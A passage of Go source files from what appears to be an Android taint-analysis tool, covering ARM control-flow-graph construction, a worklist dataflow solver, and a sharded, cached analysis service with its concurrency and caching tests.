			consts[insn.Rd] = uint32(insn.Imm)
		} else if v, ok := consts[insn.Rm]; ok && !insn.RegOffset {
			consts[insn.Rd] = v
		} else {
			delete(consts, insn.Rd)
		}
	case arm.OpSTM:
		if insn.Writeback {
			delete(consts, insn.Rn)
		}
	default:
		if insn.Rd != arm.RegNone {
			delete(consts, insn.Rd)
		}
		if insn.Writeback && insn.Rn != arm.RegNone {
			delete(consts, insn.Rn)
		}
	}
	addSucc(next)
	return false
}

func (b *cfgBuilder) queueFunc(addr uint32, thumb bool) {
	key := addr &^ 1
	if _, done := b.cfg.Funcs[key]; done {
		return
	}
	for _, p := range b.pending {
		if p&^1 == key {
			return
		}
	}
	if thumb {
		addr |= 1
	}
	b.pending = append(b.pending, addr)
}

// Order returns every decoded instruction address, sorted.
func (c *NativeCFG) Order() []uint32 {
	if c.order == nil {
		c.order = make([]uint32, 0, len(c.Insns))
		for a := range c.Insns {
			c.order = append(c.order, a)
		}
		sort.Slice(c.order, func(i, j int) bool { return c.order[i] < c.order[j] })
	}
	return c.order
}

// funcGraph adapts one NativeFunc's body to the dataflow Graph interface:
// nodes are body indices, edges the intra-procedural successors.
type funcGraph struct {
	fn    *NativeFunc
	cfg   *NativeCFG
	index map[uint32]int
	succs [][]int
	preds [][]int
}

func newFuncGraph(cfg *NativeCFG, fn *NativeFunc) *funcGraph {
	g := &funcGraph{fn: fn, cfg: cfg, index: make(map[uint32]int, len(fn.Body))}
	for i, a := range fn.Body {
		g.index[a] = i
	}
	g.succs = make([][]int, len(fn.Body))
	g.preds = make([][]int, len(fn.Body))
	for i, a := range fn.Body {
		ni := cfg.Insns[a]
		if ni == nil {
			continue
		}
		for _, s := range ni.Succs {
			if j, ok := g.index[s]; ok {
				g.succs[i] = append(g.succs[i], j)
				g.preds[j] = append(g.preds[j], i)
			}
		}
	}
	return g
}

func (g *funcGraph) NumNodes() int     { return len(g.fn.Body) }
func (g *funcGraph) Succs(n int) []int { return g.succs[n] }
func (g *funcGraph) Preds(n int) []int { return g.preds[n] }

// addr maps a graph node back to its instruction address.
func (g *funcGraph) addr(n int) uint32 { return g.fn.Body[n] }

// destReg returns the general-purpose register the instruction writes, or -1.
func destReg(ni *NativeInsn) int {
	if ni.Insn.Rd == arm.RegNone {
		return -1
	}
	return int(ni.Insn.Rd)
}

// copySrcReg returns the source register of a plain register-to-register MOV,
// or -1 when the instruction is not a copy.
func copySrcReg(ni *NativeInsn) int {
	insn := ni.Insn
	if insn.Op == arm.OpMOV && !insn.HasImm && !insn.RegOffset && insn.Rm != arm.RegNone {
		return int(insn.Rm)
	}
	return -1
}
