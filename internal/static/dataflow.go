// Package static is the whole-program static pre-analysis over guest code:
// CFG construction for Dalvik bytecode and for ARM/Thumb native regions, a
// generic worklist dataflow framework shared by both ISAs, a
// taint-reachability pass whose result pre-pins the dynamic dual-variant
// gates (bare ARM blocks, clean DVM translations), and a static JNI lint
// over crossing sites. It runs before the first guest instruction executes
// and doubles as a soundness oracle for the dynamic flow logs
// (Result.CrossValidate).
package static

// Graph is the shape both CFGs and the interprocedural call graph present to
// the dataflow solver: nodes are dense indices, edges are successor lists.
type Graph interface {
	NumNodes() int
	Succs(n int) []int
	Preds(n int) []int
}

// BitSet is a fixed-width fact vector.
type BitSet []uint64

// NewBitSet returns an empty set able to hold bits [0, n).
func NewBitSet(n int) BitSet { return make(BitSet, (n+63)/64) }

// Get reports bit i.
func (b BitSet) Get(i int) bool { return b[i/64]&(1<<uint(i%64)) != 0 }

// Set sets bit i, reporting whether the set changed.
func (b BitSet) Set(i int) bool {
	w, m := i/64, uint64(1)<<uint(i%64)
	if b[w]&m != 0 {
		return false
	}
	b[w] |= m
	return true
}

// Clear clears bit i.
func (b BitSet) Clear(i int) { b[i/64] &^= 1 << uint(i%64) }

// Union ORs o into b, reporting whether b changed.
func (b BitSet) Union(o BitSet) bool {
	changed := false
	for i := range b {
		n := b[i] | o[i]
		if n != b[i] {
			b[i] = n
			changed = true
		}
	}
	return changed
}

// Intersect ANDs o into b, reporting whether b changed.
func (b BitSet) Intersect(o BitSet) bool {
	changed := false
	for i := range b {
		n := b[i] & o[i]
		if n != b[i] {
			b[i] = n
			changed = true
		}
	}
	return changed
}

// Copy returns an independent copy.
func (b BitSet) Copy() BitSet {
	c := make(BitSet, len(b))
	copy(c, b)
	return c
}

// Count returns the number of set bits.
func (b BitSet) Count() int {
	n := 0
	for _, w := range b {
		for ; w != 0; w &= w - 1 {
			n++
		}
	}
	return n
}

// Any reports whether any bit is set.
func (b BitSet) Any() bool {
	for _, w := range b {
		if w != 0 {
			return true
		}
	}
	return false
}

// Direction selects which way facts flow along edges.
type Direction int

// Dataflow directions.
const (
	Forward Direction = iota
	Backward
)

// Join selects the confluence operator at control-flow merges.
type Join int

// Confluence operators: May (union — a fact holds on some path) and Must
// (intersection — a fact holds on every path).
const (
	May Join = iota
	Must
)

// Problem is one dataflow problem instance over a Graph.
type Problem struct {
	Dir  Direction
	Join Join
	// Bits is the fact-vector width.
	Bits int
	// Boundary seeds the in-set of node n before confluence (typically the
	// entry node for Forward, exit nodes for Backward). Nil means no seeds.
	Boundary func(n int) BitSet
	// Transfer computes the out-set of node n from its in-set. It must not
	// retain or mutate in; copy-on-write via in.Copy() is the usual shape.
	Transfer func(n int, in BitSet) BitSet
}

// Solve runs the iterative worklist algorithm to a fixpoint and returns the
// out-set of every node (facts after the node for Forward problems, before
// it for Backward ones). Must problems start at top (all bits set) so the
// intersection over not-yet-visited predecessors does not spuriously kill
// facts; nodes with no in-edges start at the boundary alone.
func Solve(g Graph, p Problem) []BitSet {
	n := g.NumNodes()
	out := make([]BitSet, n)
	top := NewBitSet(p.Bits)
	if p.Join == Must {
		for i := range top {
			top[i] = ^uint64(0)
		}
	}
	for i := 0; i < n; i++ {
		out[i] = top.Copy()
	}

	in := func(i int) []int {
		if p.Dir == Forward {
			return g.Preds(i)
		}
		return g.Succs(i)
	}
	outEdges := func(i int) []int {
		if p.Dir == Forward {
			return g.Succs(i)
		}
		return g.Preds(i)
	}

	// FIFO worklist with a membership bitmap; every node is processed at
	// least once so boundary-only nodes still transfer.
	work := make([]int, 0, n)
	queued := make([]bool, n)
	for i := 0; i < n; i++ {
		work = append(work, i)
		queued[i] = true
	}
	for len(work) > 0 {
		node := work[0]
		work = work[1:]
		queued[node] = false

		inSet := NewBitSet(p.Bits)
		preds := in(node)
		if p.Join == Must && len(preds) > 0 {
			for i := range inSet {
				inSet[i] = ^uint64(0)
			}
			for _, pr := range preds {
				inSet.Intersect(out[pr])
			}
		} else {
			for _, pr := range preds {
				inSet.Union(out[pr])
			}
		}
		if p.Boundary != nil {
			if b := p.Boundary(node); b != nil {
				inSet.Union(b)
			}
		}
		newOut := p.Transfer(node, inSet)
		if equal(newOut, out[node]) {
			continue
		}
		out[node] = newOut
		for _, s := range outEdges(node) {
			if !queued[s] {
				work = append(work, s)
				queued[s] = true
			}
		}
	}
	return out
}

func equal(a, b BitSet) bool {
	for i := range a {
		if a[i] != b[i] {
			return false
		}
	}
	return true
}

// Reachable runs a plain forward reachability sweep from the given roots — a
// 1-bit May problem, shared by the Dalvik CFG checks, the ARM traversal
// audit, and the call-graph entry sweep.
func Reachable(g Graph, roots []int) BitSet {
	seed := NewBitSet(g.NumNodes())
	for _, r := range roots {
		seed.Set(r)
	}
	out := Solve(g, Problem{
		Dir:  Forward,
		Join: May,
		Bits: 1,
		Boundary: func(n int) BitSet {
			if seed.Get(n) {
				one := NewBitSet(1)
				one.Set(0)
				return one
			}
			return nil
		},
		Transfer: func(n int, in BitSet) BitSet { return in },
	})
	reach := NewBitSet(g.NumNodes())
	for i, o := range out {
		if o.Get(0) {
			reach.Set(i)
		}
	}
	return reach
}
