package service

// SetFlightGap installs the test-only hook that runs after a submission
// registers its flight and before it consults the verdict cache or enqueues.
// Blocking inside the hook holds the flight open, which is how the
// single-flight test forces a concurrent twin submission into the dedup path.
// Must be set before the first Submit.
func (s *Service) SetFlightGap(h func(digest string)) { s.testFlightGap = h }
