package service_test

import (
	"bufio"
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"repro/internal/apps"
	"repro/internal/cas"
	"repro/internal/core"
	"repro/internal/service"
)

const testBudget = 1 << 21

func mustApp(t *testing.T, name string) *apps.App {
	t.Helper()
	app, ok := apps.ByName(name)
	if !ok {
		t.Fatalf("%s missing from registry", name)
	}
	return app
}

func waitFor(t *testing.T, what string, cond func() bool) {
	t.Helper()
	deadline := time.Now().Add(10 * time.Second)
	for !cond() {
		if time.Now().After(deadline) {
			t.Fatalf("timed out waiting for %s", what)
		}
		time.Sleep(time.Millisecond)
	}
}

// TestSingleFlightDedup holds a flight open at the injected gap and lands a
// twin submission in the window: the analysis must run once, both submitters
// must receive the result, and the twin must be labeled a dedup.
func TestSingleFlightDedup(t *testing.T) {
	app := mustApp(t, "case1")
	svc, err := service.New(service.Options{
		Workers: 2,
		Analyze: core.AnalyzeOptions{Budget: testBudget, FlowLog: true},
	})
	if err != nil {
		t.Fatal(err)
	}
	defer svc.Close()

	entered := make(chan string, 1)
	gate := make(chan struct{})
	svc.SetFlightGap(func(digest string) {
		entered <- digest
		<-gate
	})

	firstCh := make(chan service.Result, 1)
	go func() { firstCh <- <-svc.Submit(app.Spec()) }()
	digest := <-entered

	// The twin carries a different display name; content digest is identical,
	// so it must join the open flight rather than start its own.
	twin := app.Spec()
	twin.Name = "case1-under-alias"
	secondCh := make(chan service.Result, 1)
	go func() { secondCh <- <-svc.Submit(twin) }()
	waitFor(t, "twin to join the flight", func() bool { return svc.Stats().Deduped == 1 })

	close(gate)
	first, second := <-firstCh, <-secondCh
	if first.Err != nil || second.Err != nil {
		t.Fatalf("errs: %v / %v", first.Err, second.Err)
	}
	if first.Digest != digest || second.Digest != digest {
		t.Errorf("digests diverge: %s / %s / %s", digest, first.Digest, second.Digest)
	}
	if first.Source != "computed" || second.Source != "dedup" {
		t.Errorf("sources = %q / %q, want computed / dedup", first.Source, second.Source)
	}
	if second.Name != "case1-under-alias" || second.Report.Name != "case1-under-alias" {
		t.Errorf("dedup result lost its submitter's name: %q / %q", second.Name, second.Report.Name)
	}
	wantLog := strings.Join(first.Report.Final.Result.LogLines, "\n")
	gotLog := strings.Join(second.Report.Final.Result.LogLines, "\n")
	if second.Report.Verdict() != first.Report.Verdict() || gotLog != wantLog {
		t.Error("dedup twin's outcome differs from the computed one")
	}
	st := svc.Stats()
	if st.Computed != 1 || st.Submitted != 2 || st.Deduped != 1 {
		t.Errorf("stats = %+v, want 1 computed / 2 submitted / 1 deduped", st)
	}
}

// TestVerdictShortCircuit: a digest judged once under a store is answered
// from its verdict record by a later service over the same store — with a
// byte-identical report and zero analyses run.
func TestVerdictShortCircuit(t *testing.T) {
	app := mustApp(t, "qqphonebook")
	store, err := cas.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	aOpts := core.AnalyzeOptions{Budget: testBudget, FlowLog: true}

	svc1, err := service.New(service.Options{Cache: store, Analyze: aOpts})
	if err != nil {
		t.Fatal(err)
	}
	cold := <-svc1.Submit(app.Spec())
	svc1.Close()
	if cold.Err != nil {
		t.Fatal(cold.Err)
	}
	if cold.Source != "computed" {
		t.Fatalf("cold source = %q", cold.Source)
	}

	svc2, err := service.New(service.Options{Cache: store, Analyze: aOpts})
	if err != nil {
		t.Fatal(err)
	}
	warm := <-svc2.Submit(app.Spec())
	svc2.Close()
	if warm.Err != nil {
		t.Fatal(warm.Err)
	}
	if warm.Source != "verdict-cache" {
		t.Fatalf("warm source = %q, want verdict-cache", warm.Source)
	}
	if st := svc2.Stats(); st.Computed != 0 || st.VerdictHits != 1 {
		t.Errorf("warm stats = %+v, want 0 computed / 1 verdict hit", st)
	}

	cr, wr := cold.Report, warm.Report
	if wr.Verdict() != cr.Verdict() || wr.Degraded != cr.Degraded || wr.ChainString() != cr.ChainString() {
		t.Errorf("replayed chain %s (degraded=%t) vs computed %s (degraded=%t)",
			wr.ChainString(), wr.Degraded, cr.ChainString(), cr.Degraded)
	}
	if got, want := strings.Join(wr.Final.Result.LogLines, "\n"), strings.Join(cr.Final.Result.LogLines, "\n"); got != want {
		t.Error("replayed flow log is not byte-identical to the computed one")
	}
	if wr.Final.Result.JavaInsns != cr.Final.Result.JavaInsns ||
		wr.Final.Result.NativeInsns != cr.Final.Result.NativeInsns ||
		len(wr.Final.Result.Leaks) != len(cr.Final.Result.Leaks) {
		t.Error("replayed counters diverge from the computed run")
	}

	// A different analysis configuration must not resolve to the record.
	bOpts := aOpts
	bOpts.Mode = core.ModeTaintDroid
	svc3, err := service.New(service.Options{Cache: store, Analyze: bOpts})
	if err != nil {
		t.Fatal(err)
	}
	other := <-svc3.Submit(app.Spec())
	svc3.Close()
	if other.Err != nil {
		t.Fatal(other.Err)
	}
	if other.Source != "computed" {
		t.Errorf("taintdroid-mode source = %q: verdict record leaked across analysis options", other.Source)
	}
}

// TestStreamingOutput: one parseable JSON line per completed submission, in
// completion order, carrying verdict and provenance.
func TestStreamingOutput(t *testing.T) {
	store, err := cas.Open(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	svc, err := service.New(service.Options{
		Workers: 2,
		Cache:   store,
		Out:     &out,
		Analyze: core.AnalyzeOptions{Budget: testBudget, FlowLog: true},
	})
	if err != nil {
		t.Fatal(err)
	}
	corpus := []*apps.App{mustApp(t, "case1"), mustApp(t, "benign"), mustApp(t, "case1")}
	var chans []<-chan service.Result
	for _, app := range corpus {
		chans = append(chans, svc.Submit(app.Spec()))
	}
	for _, ch := range chans {
		if res := <-ch; res.Err != nil {
			t.Fatal(res.Err)
		}
	}
	svc.Close()

	verdicts := map[string]string{}
	lines := 0
	sc := bufio.NewScanner(&out)
	for sc.Scan() {
		lines++
		var line struct {
			App     string `json:"app"`
			Digest  string `json:"digest"`
			Verdict string `json:"verdict"`
			Chain   string `json:"chain"`
			Source  string `json:"source"`
		}
		if err := json.Unmarshal(sc.Bytes(), &line); err != nil {
			t.Fatalf("unparseable stream line %q: %v", sc.Text(), err)
		}
		if line.App == "" || line.Digest == "" || line.Verdict == "" || line.Source == "" {
			t.Errorf("incomplete stream line: %q", sc.Text())
		}
		verdicts[line.App] = line.Verdict
	}
	if lines != len(corpus) {
		t.Errorf("streamed %d lines for %d submissions", lines, len(corpus))
	}
	if verdicts["case1"] != "leak" || verdicts["benign"] != "clean" {
		t.Errorf("streamed verdicts %v", verdicts)
	}
}

// TestShardRoutingStable: the same digest always routes to the same shard
// worker, so repeated submissions of one app are served by one Runner's warm
// caches no matter how many workers exist.
func TestShardRoutingStable(t *testing.T) {
	app := mustApp(t, "benign")
	svc, err := service.New(service.Options{
		Workers: 4,
		Analyze: core.AnalyzeOptions{Budget: testBudget},
	})
	if err != nil {
		t.Fatal(err)
	}
	var digest string
	for i := 0; i < 3; i++ {
		res := <-svc.Submit(app.Spec())
		if res.Err != nil {
			t.Fatal(res.Err)
		}
		if digest == "" {
			digest = res.Digest
		} else if res.Digest != digest {
			t.Fatalf("digest moved between submissions: %s vs %s", res.Digest, digest)
		}
	}
	svc.Close()
	// Uncached service: no verdict records, so all three ran — on one shard.
	// Exactly one worker Runner (plus the fingerprint Runner) did any resets.
	if st := svc.Stats(); st.Computed != 3 {
		t.Fatalf("computed = %d, want 3 (no verdict store attached)", st.Computed)
	}
}
