// Package service turns the one-shot analyzer into analysis-as-a-service: a
// long-running submission pipeline in front of core.AnalyzeApp.
//
// A submission is fingerprinted first (content digest of everything its
// Install adds to the warm System — display names excluded), and the digest
// drives the whole pipeline:
//
//   - Routing: submissions are sharded digest->worker, so identical content
//     always lands on the same worker's snapshot-cloned Runner and its warm
//     in-memory caches.
//   - Single-flight dedup: concurrent submissions of the same digest run the
//     analysis once; every submitter receives the one result.
//   - Short-circuit: with a persistent artifact store attached, a re-submitted
//     digest is answered from its cached verdict record without running.
//
// Each shard worker owns one fork-server Runner (boot once, restore per
// attempt) wired to the shared artifact store, so static results, assembled
// library images, and dex validation verdicts flow between shards and across
// process lifetimes. Backpressure is the shard queue: when a worker falls
// behind, Submit blocks rather than buffering unboundedly.
//
// Results stream: as each submission completes, one JSON line is written to
// Options.Out (when set) and the submitter's channel is fulfilled. Caching
// never changes an outcome — a cached verdict replays the chain, verdict, and
// flow log byte-for-byte (the parity suite in the apps package holds service
// runs identical to RunStudyParallel in every cache mode).
package service

import (
	"encoding/json"
	"fmt"
	"hash/fnv"
	"io"
	"sync"

	"repro/internal/cas"
	"repro/internal/core"
	"repro/internal/fault"
	"repro/internal/surface"
)

// Options configures a Service.
type Options struct {
	// Workers is the shard count; each shard owns one fork-server Runner.
	// Defaults to 1.
	Workers int
	// QueueDepth bounds each shard's submission queue; a full queue blocks
	// Submit (backpressure). Defaults to 4.
	QueueDepth int
	// Cache is the persistent artifact store shared by every shard and the
	// fingerprint stage. Nil runs the service fully in-memory: sharding and
	// dedup still work, verdict short-circuiting does not.
	Cache *cas.Store
	// Analyze is the base analysis configuration applied to every submission.
	// Its Runner field is owned by the service and overwritten per shard.
	Analyze core.AnalyzeOptions
	// Out, when set, receives one JSON line per completed submission, in
	// completion order.
	Out io.Writer
}

// Stats counts pipeline activity since New.
type Stats struct {
	Submitted   int // submissions accepted
	Computed    int // analyses actually run on a shard
	VerdictHits int // submissions answered from a cached verdict record
	Deduped     int // submissions that joined an in-flight twin

	// Runner aggregates fork-server and artifact traffic across the
	// fingerprint runner and every shard (snapshot resets, static/asm/dex
	// cache hits, absorbed cache faults). Live shard counters are folded in
	// on Close.
	Runner core.RunnerStats
}

// Result is one completed submission.
type Result struct {
	Name   string         // submission display name
	Digest string         // content digest (Fingerprint.App)
	Report core.AppReport // full degradation chain and final outcome
	Diags  []string       // load-time dex validation diagnostics
	// Source tells where the verdict came from: "computed" (a shard ran the
	// analysis), "verdict-cache" (replayed from the artifact store), or
	// "dedup" (joined a concurrent identical submission).
	Source string
	Err    error // submission-level failure (install fault, closed service)
}

type waiter struct {
	name string
	ch   chan Result
}

// flight is one in-progress computation of a digest; concurrent identical
// submissions append themselves as waiters instead of starting a twin run.
type flight struct {
	digest string
	diags  []string
	wait   []waiter
}

type job struct {
	spec core.AppSpec
	fp   core.Fingerprint
	fl   *flight
}

type shard struct {
	queue chan job
	stats core.RunnerStats
}

// Service is a running analysis pipeline. Create with New, feed with Submit,
// drain and stop with Close.
type Service struct {
	opts   Options
	shards []*shard
	wg     sync.WaitGroup

	digestMu sync.Mutex
	digester *core.Runner // fingerprint + validation stage (serialized)

	flightMu sync.Mutex
	flights  map[string]*flight
	closed   bool

	outMu sync.Mutex

	statsMu sync.Mutex
	stats   Stats

	// testFlightGap, when set (tests only), runs after a submission registers
	// its flight and before it checks the verdict cache or enqueues — the
	// window a concurrent twin submission must land in to exercise dedup.
	testFlightGap func(digest string)
}

// New boots the fingerprint runner and one Runner per shard, all wired to
// opts.Cache, and starts the shard workers.
func New(opts Options) (*Service, error) {
	if opts.Workers < 1 {
		opts.Workers = 1
	}
	if opts.QueueDepth < 1 {
		opts.QueueDepth = 4
	}
	digester, err := core.NewCachedRunner(opts.Cache)
	if err != nil {
		return nil, err
	}
	s := &Service{
		opts:     opts,
		digester: digester,
		flights:  make(map[string]*flight),
	}
	for i := 0; i < opts.Workers; i++ {
		sh := &shard{queue: make(chan job, opts.QueueDepth)}
		s.shards = append(s.shards, sh)
		s.wg.Add(1)
		go s.shardLoop(sh)
	}
	return s, nil
}

// Submit fingerprints the app and routes it through the pipeline. The
// returned channel delivers exactly one Result and is then closed. Submit
// blocks while the target shard's queue is full (backpressure); results are
// buffered, so submitting an entire corpus before reading any result cannot
// deadlock.
func (s *Service) Submit(spec core.AppSpec) <-chan Result {
	ch := make(chan Result, 1)
	fail := func(err error) <-chan Result {
		ch <- Result{Name: spec.Name, Err: err}
		close(ch)
		return ch
	}

	s.flightMu.Lock()
	if s.closed {
		s.flightMu.Unlock()
		return fail(fmt.Errorf("service: submit after Close"))
	}
	s.flightMu.Unlock()

	s.bumpStat(func(st *Stats) { st.Submitted++ })

	s.digestMu.Lock()
	fp, diags, err := s.digester.Fingerprint(spec)
	s.digestMu.Unlock()
	if err != nil {
		// A failing Install is an analyzable outcome, not a pipeline error:
		// route it to a shard under a synthetic digest and let the
		// degradation ladder produce the same contained fault report a study
		// run would. The display name joins the digest here — with no content
		// to hash there is nothing safe to dedup across names.
		fp = core.Fingerprint{App: cas.DigestStrings(
			"install-fault", spec.Name, spec.EntryClass, spec.EntryMethod, err.Error())}
		fp.Static = fp.App
		diags = []string{err.Error()}
	}

	// Single-flight: join an in-progress twin or register a new flight.
	s.flightMu.Lock()
	if fl, ok := s.flights[fp.App]; ok {
		fl.wait = append(fl.wait, waiter{name: spec.Name, ch: ch})
		s.flightMu.Unlock()
		s.bumpStat(func(st *Stats) { st.Deduped++ })
		return ch
	}
	fl := &flight{digest: fp.App, diags: diags, wait: []waiter{{name: spec.Name, ch: ch}}}
	s.flights[fp.App] = fl
	s.flightMu.Unlock()

	if hook := s.testFlightGap; hook != nil {
		hook(fp.App)
	}

	// Verdict short-circuit: a digest this store has already judged under
	// these analysis options replays without running.
	if rep, ok := s.loadVerdict(fp); ok {
		rep.Name = spec.Name
		s.bumpStat(func(st *Stats) { st.VerdictHits++ })
		s.finish(fl, rep, "verdict-cache")
		return ch
	}

	s.shards[shardIndex(fp.App, len(s.shards))].queue <- job{spec: spec, fp: fp, fl: fl}
	return ch
}

// shardLoop is one worker: a fork-server Runner serving its queue in order.
func (s *Service) shardLoop(sh *shard) {
	defer s.wg.Done()
	// A failed warm boot degrades the shard to fresh-System attempts; the
	// per-attempt path reports any persistent boot fault itself.
	runner, _ := core.NewCachedRunner(s.opts.Cache)
	for j := range sh.queue {
		aOpts := s.opts.Analyze
		aOpts.Runner = runner
		rep := core.AnalyzeApp(j.spec, aOpts)
		s.storeVerdict(j.fp, rep)
		s.bumpStat(func(st *Stats) { st.Computed++ })
		s.finish(j.fl, rep, "computed")
	}
	if runner != nil {
		sh.stats = runner.Stats
	}
}

// finish retires a flight: removes it from the in-flight table and fulfills
// every waiter (the originator with source, twins as "dedup").
func (s *Service) finish(fl *flight, rep core.AppReport, source string) {
	s.flightMu.Lock()
	delete(s.flights, fl.digest)
	waiters := fl.wait
	s.flightMu.Unlock()

	for i, w := range waiters {
		src := source
		if i > 0 {
			src = "dedup"
		}
		r := rep
		r.Name = w.name
		res := Result{Name: w.name, Digest: fl.digest, Report: r, Diags: fl.diags, Source: src}
		s.emit(res)
		w.ch <- res
		close(w.ch)
	}
}

// Close drains the shard queues, stops the workers, and folds their Runner
// stats into Stats. Submissions already accepted complete; Submit afterwards
// fails fast.
func (s *Service) Close() {
	s.flightMu.Lock()
	if s.closed {
		s.flightMu.Unlock()
		return
	}
	s.closed = true
	s.flightMu.Unlock()

	for _, sh := range s.shards {
		close(sh.queue)
	}
	s.wg.Wait()

	s.statsMu.Lock()
	defer s.statsMu.Unlock()
	addRunnerStats(&s.stats.Runner, s.digester.Stats)
	for _, sh := range s.shards {
		addRunnerStats(&s.stats.Runner, sh.stats)
	}
}

// Stats snapshots the pipeline counters. Shard Runner counters are folded in
// by Close; before that, Runner covers only the fingerprint stage.
func (s *Service) Stats() Stats {
	s.statsMu.Lock()
	defer s.statsMu.Unlock()
	return s.stats
}

// Cache exposes the service's artifact store (nil when running in-memory).
func (s *Service) Cache() *cas.Store { return s.opts.Cache }

func (s *Service) bumpStat(f func(*Stats)) {
	s.statsMu.Lock()
	f(&s.stats)
	s.statsMu.Unlock()
}

// resultLine is the streamed JSON-lines schema, one object per completed
// submission.
type resultLine struct {
	App      string   `json:"app"`
	Digest   string   `json:"digest"`
	Verdict  string   `json:"verdict"`
	Chain    string   `json:"chain"`
	Degraded bool     `json:"degraded,omitempty"`
	Source   string   `json:"source"`
	Leaks    int      `json:"leaks"`
	LogLines int      `json:"log_lines"`
	Fault    string   `json:"fault,omitempty"`
	Diags    []string `json:"diags,omitempty"`
	Error    string   `json:"error,omitempty"`
	// Surface summary: unique JNI boundaries discovered, observer events
	// recorded, and whether the map hit its event budget (flood truncation).
	SurfaceBoundaries int  `json:"surface_boundaries,omitempty"`
	SurfaceEvents     int  `json:"surface_events,omitempty"`
	SurfaceTruncated  bool `json:"surface_truncated,omitempty"`
}

func (s *Service) emit(res Result) {
	if s.opts.Out == nil {
		return
	}
	line := resultLine{
		App:      res.Name,
		Digest:   res.Digest,
		Source:   res.Source,
		Diags:    res.Diags,
		Degraded: res.Report.Degraded,
	}
	if res.Err != nil {
		line.Error = res.Err.Error()
	} else {
		line.Verdict = res.Report.Verdict().String()
		line.Chain = res.Report.ChainString()
		line.Leaks = len(res.Report.Final.Result.Leaks)
		line.LogLines = len(res.Report.Final.Result.LogLines)
		if f := res.Report.Final.Result.Fault; f != nil {
			line.Fault = f.Error()
		}
		if m := res.Report.Final.Result.Surface; m != nil {
			line.SurfaceBoundaries = m.UniqueBoundaries
			line.SurfaceEvents = m.Events
			line.SurfaceTruncated = m.Truncated
		}
	}
	b, err := json.Marshal(line)
	if err != nil {
		return
	}
	s.outMu.Lock()
	s.opts.Out.Write(append(b, '\n'))
	s.outMu.Unlock()
}

// shardIndex routes a digest to a shard. Identical content always lands on
// the same worker, so its in-memory static cache and asm memo stay hot.
func shardIndex(digest string, n int) int {
	h := fnv.New64a()
	h.Write([]byte(digest))
	return int(h.Sum64() % uint64(n))
}

// --- persistent verdict records ---------------------------------------------

// KindVerdict holds verdictRecord payloads: the final outcome of one app
// digest under one analysis configuration. Keyed by verdictKey, not the bare
// app digest — mode, budget, fusion, flow-log capture, and static level all
// change what a run produces.
var KindVerdict = cas.Kind{Name: "verdict", Schema: "v2 service.verdictRecord chain,final_log,leaks,counters,surface"}

// addRunnerStats folds one Runner's counters into an aggregate.
func addRunnerStats(dst *core.RunnerStats, s core.RunnerStats) {
	dst.Boots += s.Boots
	dst.Resets += s.Resets
	dst.GuestPagesReset += s.GuestPagesReset
	dst.TaintPagesReset += s.TaintPagesReset
	dst.StaticRuns += s.StaticRuns
	dst.StaticReuses += s.StaticReuses
	dst.StaticDiskHits += s.StaticDiskHits
	dst.DexValidations += s.DexValidations
	dst.DexCheckHits += s.DexCheckHits
	dst.AsmCacheHits += s.AsmCacheHits
	dst.AsmAssembles += s.AsmAssembles
	dst.CacheFaults += s.CacheFaults
	dst.JNICrossings += s.JNICrossings
	dst.SummarySynths += s.SummarySynths
	dst.SummaryReuses += s.SummaryReuses
	dst.SummaryDiskHits += s.SummaryDiskHits
}

type attemptRecord struct {
	Mode    string          `json:"mode"`
	Verdict string          `json:"verdict"`
	Fault   *fault.Portable `json:"fault,omitempty"`
}

// verdictRecord is the persistent form of an AppReport. The final attempt
// keeps its full flow log so a replayed verdict is byte-identical to the
// computed one; intermediate chain attempts keep mode, verdict, and fault
// (what ChainString and the study tallies consume).
type verdictRecord struct {
	Chain       []attemptRecord `json:"chain"`
	Degraded    bool            `json:"degraded,omitempty"`
	Thrown      bool            `json:"thrown,omitempty"`
	FinalLog    []string        `json:"final_log,omitempty"`
	LogHash     string          `json:"log_hash"`
	Leaks       []core.Leak     `json:"leaks,omitempty"`
	JavaInsns   uint64          `json:"java_insns"`
	NativeInsns uint64          `json:"native_insns"`
	// Surface is the final attempt's JNI surface map, persisted so a warm
	// verdict replay emits the exact map the computed run produced even
	// though the replay observes zero live crossings.
	Surface      *surface.Map `json:"surface,omitempty"`
	JNICrossings uint64       `json:"jni_crossings,omitempty"`
}

// verdictKey binds the app digest to every analysis option that can change
// the outcome or its captured artifacts.
func verdictKey(fp core.Fingerprint, o core.AnalyzeOptions) string {
	mode := o.Mode
	if mode == 0 {
		mode = core.ModeNDroid
	}
	return cas.DigestStrings(fp.App, mode.String(),
		fmt.Sprintf("fuse=%d", int(o.Fuse)),
		fmt.Sprintf("budget=%d", o.Budget),
		fmt.Sprintf("flowlog=%t", o.FlowLog),
		fmt.Sprintf("static=%d", int(o.Static)),
		fmt.Sprintf("retries=%d", o.InternalRetries),
		fmt.Sprintf("surface=%d", int(o.Surface)),
		fmt.Sprintf("summaries=%d", int(o.Summaries)))
}

func (s *Service) storeVerdict(fp core.Fingerprint, rep core.AppReport) {
	if s.opts.Cache == nil {
		return
	}
	rec := verdictRecord{
		Degraded:     rep.Degraded,
		Thrown:       rep.Final.Result.Thrown,
		FinalLog:     rep.Final.Result.LogLines,
		LogHash:      cas.DigestStrings(rep.Final.Result.LogLines...),
		Leaks:        rep.Final.Result.Leaks,
		JavaInsns:    rep.Final.Result.JavaInsns,
		NativeInsns:  rep.Final.Result.NativeInsns,
		Surface:      rep.Final.Result.Surface,
		JNICrossings: rep.Final.Result.JNICrossings,
	}
	for _, att := range rep.Chain {
		rec.Chain = append(rec.Chain, attemptRecord{
			Mode:    att.Mode.String(),
			Verdict: att.Result.Verdict.String(),
			Fault:   att.Result.Fault.Portable(),
		})
	}
	// Best-effort: a failed Put costs the short-circuit, nothing else.
	_ = s.opts.Cache.Put(KindVerdict, verdictKey(fp, s.opts.Analyze), &rec)
}

// loadVerdict replays a cached verdict record as an AppReport. Any miss —
// clean, corrupt (evicted and counted), or structurally unresolvable — sends
// the submission to a shard instead.
func (s *Service) loadVerdict(fp core.Fingerprint) (core.AppReport, bool) {
	if s.opts.Cache == nil {
		return core.AppReport{}, false
	}
	var rec verdictRecord
	ok, err := s.opts.Cache.Get(KindVerdict, verdictKey(fp, s.opts.Analyze), &rec)
	if err != nil {
		s.bumpStat(func(st *Stats) { st.Runner.CacheFaults++ })
	}
	if !ok || len(rec.Chain) == 0 {
		return core.AppReport{}, false
	}
	rep := core.AppReport{Degraded: rec.Degraded}
	for _, ar := range rec.Chain {
